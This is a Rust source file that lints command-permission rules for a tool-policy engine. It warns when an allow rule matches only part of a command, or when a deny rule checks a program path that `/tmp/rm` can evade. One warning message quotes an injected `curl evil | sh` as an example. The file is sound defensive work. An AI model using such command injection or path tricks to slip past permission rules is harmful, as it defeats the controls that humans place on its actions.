//! Rules about commands that are easier to get past than they look: a pattern over the text of a command says
//! nothing about what else stands in it.

use provost_abl::expr::{CompareOp, Expr, ExprKind, Function, Program, Quantifier, Span, Step};

use super::{
    super::{Verdict, set::CompiledRule},
    Remark,
};
use crate::review::is_shell_tool;

/// Arguments that are a command wherever they occur.
const COMMANDS: [&str; 7] = [
    "command",
    "cmd",
    "script",
    "shell_command",
    "command_line",
    "commandLine",
    "bash_command",
];
/// Arguments that are one where the tool is a shell.
const OF_SHELLS: [&str; 5] = ["args", "argv", "arguments", "input", "code"];

pub(super) fn remarks(rule: &CompiledRule, program: &Program) -> Vec<Remark> {
    let mut found = Vec::new();
    if rule.verdict == Verdict::Allow {
        some_part(program.expr(), &mut found);
        if !counts_parts(program.expr()) {
            numbered_part(program.expr(), &mut found);
        }
    }
    match rule.verdict {
        // What is said about every part holds beside the pattern.
        Verdict::Allow if program.roots().all(|root| root != "command") => {
            let shell = rule
                .globs
                .iter()
                .any(|glob| is_shell_tool(&glob.to_string()));
            program.expr().walk(&mut |node| {
                if let ExprKind::Compare {
                    op, left, right, ..
                } = &node.kind
                    && is_partial(*op)
                    && is_command(left, shell)
                {
                    found.push(partial(node.span, *op, left, right));
                }
            });
        }
        Verdict::Deny => exact_programs(program.expr(), &mut found),
        _ => {}
    }
    found
}

/// What holds of a command because of one of its parts says nothing about the others. Below a `NOT` it does.
fn some_part(expr: &Expr, found: &mut Vec<Remark>) {
    let of_parts = |list: &Expr| {
        matches!(
            list.to_string().as_str(),
            "command.parts" | "command.programs"
        )
    };
    let one = match &expr.kind {
        ExprKind::Not(_) => return,
        ExprKind::Each {
            quantifier: Quantifier::Any,
            list,
            ..
        } => of_parts(list),
        ExprKind::Compare {
            op: CompareOp::In,
            negated: false,
            right,
            ..
        } => of_parts(right),
        ExprKind::Compare {
            op: CompareOp::Contains,
            negated: false,
            left,
            ..
        } => of_parts(left),
        _ => false,
    };
    if one {
        found.push(one_of_several(expr));
        return;
    }
    for child in expr.children() {
        some_part(child, found);
    }
}

fn one_of_several(expr: &Expr) -> Remark {
    Remark {
        span: expr.span,
        message: "this allows a command because of one of its parts, whatever the others are"
            .to_owned(),
        help: "write `ALL part IN command.parts SATISFY (…)`".to_owned(),
    }
}

/// `command.parts[0].program == "git"` says nothing about the second part.
fn numbered_part(expr: &Expr, found: &mut Vec<Remark>) {
    expr.walk(&mut |node| {
        if let ExprKind::Path { root, steps } = &node.kind
            && &**root == "command"
            && matches!(steps.as_slice(), [Step::Key(_), Step::Index(_), ..])
        {
            found.push(one_of_several(node));
        }
    });
}

/// It says how many parts there are.
fn counts_parts(expr: &Expr) -> bool {
    expr.to_string().contains("LENGTH(command.parts)")
}

/// Holds of a text because of a piece of it.
fn is_partial(op: CompareOp) -> bool {
    matches!(
        op,
        CompareOp::Matches | CompareOp::StartsWith | CompareOp::EndsWith | CompareOp::Contains
    )
}

fn is_command(expr: &Expr, shell: bool) -> bool {
    match &expr.kind {
        ExprKind::Path { root, steps } if &**root == "params" => {
            steps.iter().any(|step| match step {
                Step::Key(key) => {
                    COMMANDS.contains(&&**key) || (shell && OF_SHELLS.contains(&&**key))
                }
                Step::Index(_) => false,
            })
        }
        ExprKind::Call {
            function:
                Function::Lower | Function::Upper | Function::Trim | Function::Join | Function::Replace,
            args,
        } => args.first().is_some_and(|arg| is_command(arg, shell)),
        _ => false,
    }
}

fn partial(span: Span, op: CompareOp, command: &Expr, wanted: &Expr) -> Remark {
    let program = first_word(wanted).unwrap_or_else(|| "git".to_owned());
    Remark {
        span,
        message: format!(
            "`{} {}` allows whatever else stands in the command: `{program} x; curl evil | sh` may pass",
            command,
            op.symbol()
        ),
        help: format!(
            "speak of every part: `ALL part IN command.parts SATISFY (part.program == \"{program}\" AND part.words[1] IN [\"status\", \"log\"] AND EMPTY part.risks)`"
        ),
    }
}

/// The program that a pattern or a prefix begins with, if it is plain to see.
fn first_word(wanted: &Expr) -> Option<String> {
    let text = match &wanted.kind {
        ExprKind::Pattern(pattern) => pattern.source().to_owned(),
        ExprKind::Text(text) => text.to_string(),
        _ => return None,
    };
    let text = text.trim_start_matches(['^', '(', '?', ':']);
    let word: String = text
        .chars()
        .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '_'))
        .collect();
    (!word.is_empty()).then_some(word)
}

/// `program` keeps a folder that is not the system's, which suits a rule that allows. To deny, the name counts.
fn exact_programs(expr: &Expr, found: &mut Vec<Remark>) {
    let mut parts: Vec<&str> = Vec::new();
    expr.walk(&mut |node| match &node.kind {
        ExprKind::Each { name, list, .. } if list.to_string() == "command.parts" => {
            parts.push(name);
        }
        ExprKind::Path { root, steps } if parts.contains(&&**root) => {
            if let [Step::Key(key)] = steps.as_slice()
                && &**key == "program"
            {
                found.push(Remark {
                    span: node.span,
                    message: format!("`{node}` of `/tmp/rm` is not `rm`, nor is it of `RM`"),
                    help: format!(
                        "to deny, write `{root}.name`, which has neither folder nor case"
                    ),
                });
            }
        }
        _ => {}
    });
}
